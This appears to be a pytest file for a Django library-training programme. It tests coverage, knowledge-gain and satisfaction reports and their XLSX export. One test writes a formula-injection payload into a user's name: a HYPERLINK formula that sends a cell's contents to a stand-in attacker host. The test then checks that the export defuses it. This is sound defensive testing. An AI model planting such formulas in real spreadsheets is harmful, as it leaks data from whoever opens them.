"""Reports: true numbers on a small hand-built year, constant queries, XLSX export."""

import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from pazanga.directory.tests.factories import BranchFactory
from pazanga.events.enums import RegistrationStatus
from pazanga.events.models import Event
from pazanga.programme.enums import Role
from pazanga.programme.tests.factories import person_with_role
from pazanga.training import reports, services, workflow
from pazanga.training.enums import Instrument
from pazanga.training.tests.test_services import FEEDBACK, ONE_RIGHT, RIGHT, answer

S = RegistrationStatus


def trained(session, person, staff_member, clock, *, pre=ONE_RIGHT, post=RIGHT):  # type: ignore[no-untyped-def]
    """Enrol, confirm, attend both days, answer everything and complete."""
    clock.move_to(session.event.starts_at.replace(day=1))
    enrolment = workflow.transition(
        services.enrol(session, person), S.CONFIRMED, actor=staff_member
    )
    answer(enrolment, Instrument.PRE_TEST, pre)
    for day in session.event.days:
        services.record_attendance(
            session, enrolment, day=day, status="present", actor=staff_member
        )
    clock.move_to(session.event.ends_at)
    answer(enrolment, Instrument.POST_TEST, post)
    answer(enrolment, Instrument.FEEDBACK, FEEDBACK)
    services.complete(enrolment, actor=staff_member)
    return enrolment


@pytest.fixture
def year(session, librarian_a, librarian_b, staff_member, clock, library_a):
    """Two people of two libraries trained in Alytus; a rural branch with nobody trained."""
    BranchFactory(parent=library_a, staff_headcount=2)
    trained(session, librarian_a, staff_member, clock)
    trained(
        session,
        librarian_b,
        staff_member,
        clock,
        pre={"first_phase": "o0", "gantt": "o0", "risk": "o1"},
    )
    return session


def test_coverage_by_county_counts_libraries_and_staff(year, library_a, library_b):
    table = reports.coverage_by_county(reports.Scope(2014))
    county = library_a.municipality.county
    row = next(r for r in table.rows if r[0] == str(county.name))
    # library_a (10 staff) trained, its branch (2) not.
    assert row[1:] == [2, 1, 0.5, 12, 1, 1 / 12]
    total = table.rows[-1]
    assert total[1:3] == [3, 2] and total[4:6] == [22, 2]


def test_coverage_urban_and_rural(year):
    table = reports.coverage_by_settlement(reports.Scope(2014))
    urban, rural, everything = table.rows
    assert urban[1:3] == [2, 2]
    assert rural[1:3] == [1, 0] and rural[3] == 0.0
    assert everything[1] == 3


def test_another_year_shows_nobody_trained(year):
    table = reports.coverage_by_county(reports.Scope(2015))
    assert table.rows[-1][2] == 0


def test_trained_by_module_and_county(year, modules, library_a):
    table = reports.trained_by_module_and_county(reports.Scope())
    position = [c.label for c in table.columns].index(str(modules["project-management"].name))
    assert table.rows[-1][position] == 2
    assert table.rows[-1][-1] == 2


def test_knowledge_gain_per_module_and_trainer(year, trainer):
    module_table, trainer_table = reports.knowledge_gain(reports.session_facts(reports.Scope()))
    # Pre 33.3 % and 66.7 %, post 100 % both: gains 66.7 and 33.3, mean 50.
    row = module_table.rows[0]
    assert row[0] == "Projektų valdymas" and row[1] == 2
    assert row[2] == pytest.approx(50.0) and row[3] == pytest.approx(100.0)
    assert row[4] == pytest.approx(50.0)
    assert row[5] < 50 < row[6]
    assert trainer_table.rows[0][0] == "Eglė Lektorė" and trainer_table.rows[0][1] == 2


def test_satisfaction_per_session_and_trainer(year):
    session_table, trainer_table = reports.satisfaction(reports.session_facts(reports.Scope()))
    # Every feedback: 5, 4, 4, 5 -> 4.5.
    assert session_table.rows[0][3:] == [2, 2, 1.0, 4.5]
    assert trainer_table.rows == [["Eglė Lektorė", 2, 4.5]]


@pytest.fixture
def partner(programme):
    return person_with_role(Role.PARTNER, email="fondas@gates.example")


def test_the_report_page_shows_the_map_with_its_attribution(client_of, partner, year):
    page = client_of(partner).get(reverse("training:reports"), {"year": 2014}).content.decode()
    assert page.count("<path ") == 60
    assert "© OpenStreetMap contributors, ODbL" in page
    assert "Projektų valdymas" in page


def test_every_table_exports_to_xlsx_one_sheet_each(client_of, partner, year, library_a):
    response = client_of(partner).get(english("reports"), {"export": "all", "year": 2014})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"] == 'attachment; filename="training-all-2014.xlsx"'
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == [
        "Staff trained by module and cou",  # cut at Excel's 31 characters
        "Coverage by county",
        "Coverage- urban and rural libra",
        "Coverage by municipality",
        "Knowledge gain by module",
        "Knowledge gain by trainer",
        "Satisfaction by session",
        "Satisfaction by trainer",
    ]
    coverage = workbook["Coverage by county"]
    assert [c.value for c in coverage[1]] == [
        "County",
        "Libraries",
        "Libraries with trained staff",
        "Share of libraries (%)",
        "Staff headcount",
        "Staff trained",
        "Trained ÷ headcount (%)",
    ]
    county = str(library_a.municipality.county.name)
    [row] = [r for r in coverage.iter_rows(min_row=2, values_only=True) if r[0] == county]
    assert row == (county, 2, 1, 50.0, 12, 1, 8.3)  # shares as percentages, one decimal
    gain = workbook["Knowledge gain by module"]
    assert [c.value for c in gain[2]][:5] == ["Project management", 2, 50.0, 100.0, 50.0]
    p_value = gain.cell(row=2, column=9).value
    assert isinstance(p_value, float) and p_value == float(f"{p_value:.4g}")
    assert gain.cell(row=gain.max_row, column=1).value.startswith("Scores in percent")  # note
    with translation.override("lt"):
        lithuanian = reverse("training:reports")
    one = client_of(partner).get(lithuanian, {"export": "gain_module"})
    assert one["Content-Disposition"] == 'attachment; filename="training-gain_module-all.xlsx"'
    [sheet] = load_workbook(io.BytesIO(one.content)).worksheets
    assert sheet.title == "Žinių prieaugis pagal modulį"
    assert sheet["A2"].value == "Projektų valdymas" and sheet["B2"].value == 2


def english(name: str) -> str:
    with translation.override("en"):
        return reverse(f"training:{name}")


def test_a_formula_typed_by_a_user_is_defused_in_the_training_export(
    client_of, partner, staff_member, year, trainer_user, library_b
):
    trainer_user.first_name = '=HYPERLINK("http://attacker.example/?"&A1,"Eglė")'
    trainer_user.save()
    Event.objects.filter(pk=year.event_id).update(title_lt="+SUM(1,2)", title_en="@SUM(1,2)")
    library_b.name = "-2+3 biblioteka"
    library_b.save()
    workbook = load_workbook(
        io.BytesIO(client_of(partner).get(reverse("training:reports"), {"export": "all"}).content)
    )
    texts = {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"Eglė") Lektorė' in texts
    assert "'+SUM(1,2)" in texts
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
    libraries = client_of(staff_member).get(reverse("training:report_libraries"), {"export": "1"})
    names = [row[0] for row in load_workbook(io.BytesIO(libraries.content)).active.values]
    assert "'-2+3 biblioteka" in names


def test_the_library_report_exports_to_xlsx(client_of, staff_member, year):
    response = client_of(staff_member).get(reverse("training:report_libraries"), {"export": "1"})
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    names = {row[0].value for row in sheet.iter_rows(min_row=2)}
    assert "Alytaus rajono savivaldybės viešoji biblioteka" in names


def test_the_reports_count_only_the_current_programmes_training(
    client_of, partner, staff_member, year, programme, other_programme
):
    def trained_libraries() -> int:
        return reports.coverage_by_county(reports.Scope(2014, programme=programme)).rows[-1][2]

    assert trained_libraries() == 2
    libraries = reverse("training:report_libraries")
    assert "Birštono viešoji biblioteka" in client_of(staff_member).get(libraries).content.decode()
    assert "Eglė Lektorė" in client_of(partner).get(reverse("training:reports")).content.decode()
    Event.objects.filter(pk=year.event_id).update(programme=other_programme)
    assert trained_libraries() == 0
    assert reports.coverage_by_county(reports.Scope(2014)).rows[-1][2] == 2  # every programme
    page = client_of(staff_member).get(libraries).content.decode()
    assert "Birštono viešoji biblioteka" not in page
    gain = client_of(partner).get(reverse("training:reports")).content.decode()
    assert "Eglė Lektorė" not in gain  # nobody's knowledge gain from another programme
